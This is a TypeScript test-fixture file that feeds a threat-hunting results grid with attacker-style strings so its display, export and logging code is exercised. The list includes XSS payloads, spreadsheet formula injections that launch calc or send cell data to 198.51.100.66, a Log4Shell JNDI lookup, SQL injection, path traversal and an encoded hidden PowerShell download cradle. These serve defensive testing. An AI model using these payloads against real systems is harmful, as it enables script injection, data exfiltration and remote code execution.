/**
 * Values every consumer of hunting results must survive: they come from attackers (file names,
 * command lines, email subjects, URLs). The sample data carries them in ordinary columns so the
 * grid, exports and logs are exercised on every run.
 */

export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!\'A1\'',
  '@SUM(1+1)',
  '=HYPERLINK("http://198.51.100.66/steal?d="&A1,"Click")',
  'He said "hello", then \'goodbye\'',
  'comma,separated,"quoted, value"',
  'line one\nline two\r\nline three',
  'tab\tseparated\tvalues',
  'C:\\Users\\..\\..\\Windows\\System32\\drivers\\etc\\hosts',
  'Ünïcødé — 日本語 — العربية — עברית — Ελληνικά',
  'invoice\u202Efdp.exe',
  '🔥💀🚀 emoji 👩‍💻',
  'zero\u200Bwidth\u200Bspace',
  'null\u0000byte',
  '\u001b[31mANSI red\u001b[0m',
  '${jndi:ldap://198.51.100.77/a}',
  "'; DROP TABLE Results;--",
  '{"looks":"like json","n":[1,2,3]}',
  '[1,2,3]',
  '   leading and trailing spaces   ',
  '',
];

/** A very long value (over 10,000 characters) made of a realistic base64 payload. */
export const LONG_STRING = 'powershell.exe -NoP -NonI -W Hidden -Enc ' + 'SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4A'.repeat(140);

/** Nested JSON for dynamic columns (and the JSON-in-string AdditionalFields). */
export const NESTED_JSON: Readonly<Record<string, unknown>> = {
  level1: { level2: { level3: { level4: ['deep', { html: '<b>bold</b>', formula: '=1+1' }] } } },
  list: [1, 'two', null, true, 3.5, { k: 'v' }],
  'key with spaces': 'value',
  'quote"key': "it's",
  empty: {},
  unicode: '日本語 🔥',
};

export function hostileString(i: number): string {
  return HOSTILE_STRINGS[i % HOSTILE_STRINGS.length];
}
